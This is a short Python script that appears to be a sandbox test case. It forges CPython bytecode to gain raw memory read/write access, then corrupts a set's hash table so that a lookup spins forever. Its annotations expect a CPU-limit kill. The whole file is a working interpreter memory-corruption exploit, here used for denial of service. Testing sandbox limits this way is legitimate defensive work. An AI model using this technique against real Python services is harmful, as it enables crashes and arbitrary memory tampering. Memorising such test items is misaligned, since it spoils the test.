# A set whose table has no empty entry: looking for what is not in it goes round for ever, without calling anything.
import opcode
import struct
import types

RESUME, EXTENDED_ARG, LOAD_CONST, RETURN_VALUE = (
    opcode.opmap[name] for name in ("RESUME", "EXTENDED_ARG", "LOAD_CONST", "RETURN_VALUE")
)
BYTES_DATA, TUPLE_ITEMS = 16, 12


def object_at(address):
    pointer = struct.pack("<I", address)
    index = ((id(pointer) + BYTES_DATA - (id(()) + TUPLE_ITEMS)) // 4) & 0x3FFFFFFF
    high = [part for shift in (24, 16, 8) for part in (EXTENDED_ARG, index >> shift & 255)]
    forged = bytes([RESUME, 0, *high, LOAD_CONST, index & 255, RETURN_VALUE, 0])
    return types.FunctionType((lambda: 1).__code__.replace(co_code=forged, co_consts=()), {})()


header = struct.pack("<IIIIIII", 1 << 30, id(bytearray), 1 << 30, 1 << 30, 0, 0, 0)
memory = object_at(id(header) + BYTES_DATA)
numbers = set(range(5))
# Of the object: the mask at 16, the table at 20. Of an entry: the key, then its hash.
mask, table = struct.unpack_from("<II", memory, id(numbers) + 16)
key, _ = struct.unpack_from("<II", memory, table)
for entry in range(mask + 1):
    struct.pack_into("<II", memory, table + 8 * entry, key, 12345)
print("before", end="", flush=True)
99 in numbers
#> class: "peer denial of service"
#> outcome: ["cpu_limit"]
#> stdout_starts: "before"
#> limits: {"max_cpu_seconds": 0.4}
